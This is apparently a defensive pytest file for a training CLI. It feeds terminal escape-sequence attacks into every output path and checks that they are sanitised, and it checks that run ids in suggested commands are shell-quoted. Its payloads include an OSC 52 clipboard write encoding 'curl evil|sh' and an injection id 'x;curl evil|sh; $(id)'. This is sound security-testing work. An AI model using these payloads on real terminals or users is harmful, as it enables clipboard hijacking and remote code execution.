"""Text of a stranger on a terminal: hostile text in every field of a run directory, a ledger and a job folder, and every verb."""

import ast
import json
import re
import shlex
import shutil
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from cloud_train.cli.output.runs import next_steps
from cloud_train.cli.output.terminal import Painter, finished
from cloud_train.run.states import State
from tests.cli.command import CommandLine, command_line_of
from tests.cli.test_cli_render import RUN

pytestmark = pytest.mark.slow

CLI = Path(__file__).parents[2] / "cloud_train" / "cli"

ATTACKS = {
    "writes the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "clears the screen": "\x1b[2J\x1b[H",
    "goes up and overwrites": "\x1b[1A\rsucceeded",
    "hides what follows": "\x1b[8m",
    "sets the title": "\x1b]0;owned\x1b\\",
    "answers for the user": "\x1bP$q q\x1b\\\x1b[6n",
    "uses 8-bit controls": "\x9d52;c;eA==\x9c\x9b2J",
    "reorders what is shown": "\u202egnp.exe\u2066",
    "hides a text in another": "\U000e0041\u200b\ufeff",
    "deletes backwards": "safe\b\b\b\bevil\x7f",
}
HOSTILE = "".join(ATTACKS.values())
IN_A_NAME = HOSTILE.replace("/", "")
SHORT = ATTACKS["clears the screen"]
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]")


@dataclass(frozen=True)
class World:
    """A command line whose ledger, store and job folder were written by an attacker."""

    cloud_train: CommandLine
    run_id: str
    store: Path
    strange: str
    """Name of a run directory, hostile by itself."""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    cloud_train = command_line_of(tmp_path_factory.mktemp("world"))
    run_id = cloud_train.submit("exit 3")
    store = cloud_train.folder / "runs"
    _spoil_run_directory(store / run_id)
    strange = f"x{IN_A_NAME}-261130-120000-abcd"
    shutil.copytree(store / run_id, store / strange)
    _change(store / strange / "run.json", run_id=strange)
    _spoil_ledger(cloud_train.home / "ledger.sqlite3")
    _spoil_job_folder(cloud_train.folder)
    return World(cloud_train, run_id, store, strange)


def _spoil_run_directory(folder: Path) -> None:
    record = json.loads((folder / "run.json").read_text())
    record["job"]["name"] = record["plan"]["provider"] = record["provenance"]["job_file"] = HOSTILE
    record["provenance"]["host"] = record["plan"]["notes"] = HOSTILE
    (folder / "run.json").write_text(json.dumps(record))
    _change(folder / "attempts/1/status.json", message=f"{HOSTILE}\nsecond {HOSTILE}", host=HOSTILE, launch=HOSTILE)
    (folder / "attempts/1/logs/node-0/output.log").write_bytes(f"{HOSTILE}\nlast {HOSTILE}".encode() + b"\x9b2J\xff\xc2")
    (folder / "attempts/1/logs/node-0/worker.log").write_text(f"{HOSTILE}\n")
    points = [
        {"step": step, "time": step, "split": split, "name": name, "value": 1 / step}
        for step in (1, 2)
        for split, name in (("train", HOSTILE), (HOSTILE, "loss"), ("train", SHORT), ("train", "loss"))
    ]
    metrics = folder / "attempts/1/metrics/node-0.jsonl"
    metrics.parent.mkdir(exist_ok=True)
    metrics.write_text("".join(f"{json.dumps(point)}\n" for point in points))
    (folder / "attempts/1" / f"file{IN_A_NAME}").touch()
    (folder / "attempts/1" / f"dots{IN_A_NAME}\\..").touch()
    model = {"format": 1, "step": 3, "metrics": {f"validation/{HOSTILE}": 1.0}, "fingerprint": {}, "files": {HOSTILE: {}}}
    (folder / "model").mkdir(exist_ok=True)
    (folder / "model/manifest.json").write_text(json.dumps(model))


def _change(file: Path, **fields: str) -> None:
    file.write_text(json.dumps(json.loads(file.read_text()) | fields))


def _spoil_ledger(ledger: Path) -> None:
    with sqlite3.connect(ledger) as connection:
        connection.execute("UPDATE runs SET name = ?, provider = ?, job_file = ?", (HOSTILE, HOSTILE, HOSTILE))
        connection.execute("UPDATE attempts SET provider = ?, message = ?, host = ?", (HOSTILE, f"{HOSTILE}\n{HOSTILE}", HOSTILE))
    connection.close()


def _spoil_job_folder(folder: Path) -> None:
    quoted = json.dumps(HOSTILE)
    (folder / "hostile.yaml").write_text(
        f"name: {quoted}\n{quoted}: 1\nprovider: {quoted}\nmodel: {{kind: {quoted}, {quoted}: 2}}\n"
        f"env: {{{quoted}: 1}}\nsecrets: [{quoted}]\nresources: {{accelerator: {quoted}}}\nstore: {quoted}\n"
    )
    (folder / "raw.yaml").write_text(f"name: a\nmodel: {{kind: script, command: 'true'}}\nstore: x{HOSTILE}\n")
    (folder / "broken.yaml").write_text(f"name: [{quoted}\n")
    (folder / "planned.yaml").write_text(
        f"name: planned\nmodel: {{kind: script, command: {quoted}, directory: {json.dumps(IN_A_NAME)}}}\n"
        f"env: {{A: {quoted}}}\nstore: {quoted}\n"
    )
    (folder / IN_A_NAME).mkdir()
    for name in ("hostile", "planned"):
        shutil.copy(folder / f"{name}.yaml", folder / f"{name}{IN_A_NAME}.yaml")
    (folder / "configs").mkdir()
    (folder / "configs" / f"site{IN_A_NAME}.yaml").write_text(f"{quoted}: 1\nprovider: {quoted}\n")
    (folder / "configs" / "spoilt.yaml").write_text(f"{quoted}: {{{quoted}: {quoted}}}\nlocal: {{{quoted}: 1}}\nstore: {quoted}\n")
    for number in range(2):
        (folder / "photos" / f"class{number}{IN_A_NAME}").mkdir(parents=True)
        (folder / "photos" / f"class{number}{IN_A_NAME}" / f"a{IN_A_NAME}.jpg").touch()
    (folder / "code").mkdir()
    (folder / "code" / f"id_rsa{IN_A_NAME}").touch()
    (folder / "image.yaml").write_text("name: a\nmodel: {kind: script, command: 'true', directory: code}\nimage: {base: example.com/a}\n")


VERBS: dict[str, Callable[[World], list[str]]] = {
    "list": lambda world: ["list", "--all"],
    "list of a store": lambda world: ["list", "--store", str(world.store)],
    "list of a hostile store": lambda world: ["list", "--store", f"{world.store}{HOSTILE}"],
    "status": lambda world: ["status", world.run_id],
    "status of a hostile name": lambda world: ["status", HOSTILE],
    "logs": lambda world: ["logs", world.run_id],
    "logs of the end": lambda world: ["logs", world.run_id, "--tail", "1"],
    "logs of an attempt that is not there": lambda world: ["logs", world.run_id, "--attempt", "7"],
    "metrics": lambda world: ["metrics", world.run_id],
    "metrics of one name": lambda world: ["metrics", world.run_id, "--name", HOSTILE],
    "metrics of an unknown name": lambda world: ["metrics", world.run_id, "--name", "no such"],
    "a plot": lambda world: ["metrics", world.run_id, "--plot", "--name", SHORT, "--name", "loss"],
    "cancel": lambda world: ["cancel", world.run_id],
    "resume": lambda world: ["resume", world.run_id],
    "resume elsewhere": lambda world: ["resume", world.run_id, "--provider", HOSTILE],
    "adopt": lambda world: ["adopt", f"{world.store}/{world.strange}"],
    "adopt what is not there": lambda world: ["adopt", f"{world.store}/{world.strange}-none"],
    "fetch-model": lambda world: ["fetch-model", world.run_id],
    "fetch-model of an unknown checkpoint": lambda world: ["fetch-model", world.run_id, "--checkpoint", HOSTILE],
    "sync": lambda world: ["sync", world.run_id, "--to", f"copy{HOSTILE}"],
    "evaluate": lambda world: ["evaluate", world.run_id, "photos"],
    "predict": lambda world: ["predict", world.run_id, "--text", HOSTILE],
    "package": lambda world: ["package", "image.yaml"],
    "pack": lambda world: ["pack", "photos", f"packed{HOSTILE}"],
    "validate": lambda world: ["validate", "hostile.yaml", "raw.yaml", "broken.yaml", f"none{HOSTILE}.yaml"],
    "validate with overrides": lambda world: ["validate", "planned.yaml", "--set", f"{HOSTILE}=1", "--set", f"train.{HOSTILE}={HOSTILE}"],
    "validate a hostile file name": lambda world: ["validate", f"hostile{IN_A_NAME}.yaml"],
    "validate with a hostile config": lambda world: ["validate", "planned.yaml", "--config", "spoilt"],
    "validate with an unknown config": lambda world: ["validate", "planned.yaml", "--config", "none"],
    "a dry run": lambda world: ["submit", "planned.yaml", "--dry-run"],
    "a dry run of a hostile file name": lambda world: ["submit", f"planned{IN_A_NAME}.yaml", "--dry-run"],
    "submit to a hostile provider": lambda world: ["submit", "planned.yaml", "--provider", HOSTILE],
    "init": lambda world: ["init", f"new{IN_A_NAME}.yaml"],
    "doctor": lambda world: ["doctor", "--store", f"{world.store}{HOSTILE}", "--config", "spoilt"],
    "an option that there is not": lambda world: ["list", f"--{HOSTILE}"],
}


@pytest.mark.parametrize("verb", VERBS)
def test_a_verb_shows_no_control_character_of_a_stranger(world: World, verb: str) -> None:
    arguments = [argument.replace("\x00", "") for argument in VERBS[verb](world)]
    with world.cloud_train.terminal(*arguments, variables={"TERM": "dumb"}) as terminal:
        terminal.end()
        shown = terminal.shown.replace(b"\r\n", b"\n")
    # On a dumb terminal we send no sequence of our own. Carriage returns and tabs of a program's log pass, for its progress bars.
    passing = shown.replace(b"\r", b"").replace(b"\x1b[8m", b"").replace(b"\x1b[0m", b"") if verb.startswith("logs") else shown
    assert shown.strip()
    assert "Traceback" not in shown.decode()
    assert not FORBIDDEN.findall(passing.decode()), passing


@pytest.mark.parametrize("verb", ["list", "list of a store", "status", "metrics", "a plot", "sync", "a dry run", "doctor"])
def test_in_colour_only_our_own_sequences_reach_the_terminal(world: World, verb: str) -> None:
    with world.cloud_train.terminal(*VERBS[verb](world), variables={"TERM": "xterm-256color"}) as terminal:
        terminal.end()
        shown = terminal.shown.decode().replace("\r\n", "\n")
    # Colours, and what Rich draws its bar with: up, erase, hide and show the cursor.
    ours = re.compile(r"\x1b\[(?:0|1|2|3[0-9]|9[0-7]|[34]8;5;\d+)(?:;[0-9;]+)?m|\x1b\[(?:1A|2K|\?25[lh])|\r")
    assert not FORBIDDEN.findall(ours.sub("", shown)), shown
    assert "\x1b[8m" not in shown


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_following_a_program_shows_its_attack_as_text(tmp_path: Path, attack: str) -> None:
    cloud_train = command_line_of(tmp_path)
    (cloud_train.folder / "attack").write_bytes(f"{attack}end".encode())
    job = cloud_train.job("cat attack")
    with cloud_train.terminal("submit", job, "--follow", variables={"NO_COLOR": "1"}) as terminal:
        terminal.end()
        shown = terminal.shown.decode()
    allowed = re.compile(r"\x1b\[8m|\x1b\[0m|\x1b\[K|[\r\n]")  # a colour of the program's, its end, and our live line
    assert not FORBIDDEN.findall(allowed.sub("", shown)), shown
    if "\x1b[8m" in shown:
        assert shown.rindex("\x1b[0m") > shown.rindex("\x1b[8m"), "what we print after the program is not hidden"


def test_logs_are_exact_in_a_pipe_and_with_raw_and_cleaned_on_a_terminal(tmp_path: Path) -> None:
    cloud_train = command_line_of(tmp_path)
    run_id = cloud_train.submit(r"printf '\033]52;c;eA==\007\033[31mred\033[0m 50%%\rdone \303\244 \377\n'")
    exact = b"\x1b]52;c;eA==\x07\x1b[31mred\x1b[0m 50%\rdone \xc3\xa4 \xff\n"
    assert cloud_train("logs", run_id).out == exact
    shown = {}
    for option in ((), ("--raw",)):
        with cloud_train.terminal("logs", run_id, *option, variables={"PYTHONUTF8": "1"}) as terminal:
            assert terminal.end() == 0
            shown[option] = terminal.shown.replace(b"\r\n", b"\n")
    assert exact in shown["--raw",]
    assert b"\\x1b]52;c;eA==\\x07\x1b[31mred\x1b[0m 50%\rdone \xc3\xa4 \\xff\n" in shown[()]


def test_a_verb_that_forgets_to_clean_a_text_still_sends_no_control_character() -> None:
    text = finished(f"{Painter(enabled=True)('ours', 'red')} {HOSTILE}\x1b[31m\nsecond line")
    assert text.startswith("\x1b[31mours\x1b[0m ")
    assert not FORBIDDEN.findall(text.removeprefix("\x1b[31mours\x1b[0m "))
    assert text.count("\n") == 1


def test_nothing_of_the_command_line_writes_past_the_one_place_that_cleans() -> None:
    allowed = {"terminal.py": {"write", "echo", "print", "write_bytes"}, "main.py": {"echo"}}
    for path in CLI.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.id if isinstance(node.func, ast.Name) else node.func.attr if isinstance(node.func, ast.Attribute) else ""
            on_a_stream = isinstance(node.func, ast.Attribute) and ast.unparse(node.func.value).startswith(("sys.std", "typer", "stream"))
            suspicious = name in ("print", "write_bytes") or (name in ("write", "echo", "secho") and on_a_stream)
            assert not suspicious or name in allowed.get(path.name, set()), f"{path.name}:{node.lineno} writes with {name}()"


def test_an_id_in_a_command_to_copy_is_one_word_for_a_shell() -> None:
    hostile = "x;curl evil|sh; $(id) `id` 'a' \"b\""
    run = replace(RUN, run_id=hostile)
    for state in State:
        for command, _ in next_steps(replace(run, state=state), has_metrics=True):
            assert hostile in shlex.split(command)


def test_every_command_to_copy_quotes_what_it_names() -> None:
    # An id has passed the strict rule of run.documents before anything is shown of its run.
    ours = re.compile(r"(\w+\.)?run_id|PROGRAM|_LIST|run\.run_id")
    unquoted = []
    for path in (CLI.parent).rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.JoinedStr):
                continue
            is_command = False
            for part in node.values:
                if isinstance(part, ast.Constant):
                    is_command = "cloud-train " in str(part.value) if "cloud-train" in str(part.value) else is_command
                    is_command = is_command and not re.search(r"cloud-train [a-z-]+ [^;:`{]*[;:`]", str(part.value))
                elif is_command and isinstance(part, ast.FormattedValue):
                    named = ast.unparse(part.value)
                    if not named.startswith("shlex.quote(") and not ours.fullmatch(named):
                        unquoted.append(f"{path.name}:{node.lineno}: {named}")
    known = {
        "__version__",
        "platform.system()",
        "platform.machine()",
        "version",
        "VERSION",
        "meant",
        "name",
        "command",
    }  # no text of a store's or a stranger's: "name" was quoted before
    assert not [each for each in unquoted if each.rpartition(": ")[2] not in known], unquoted
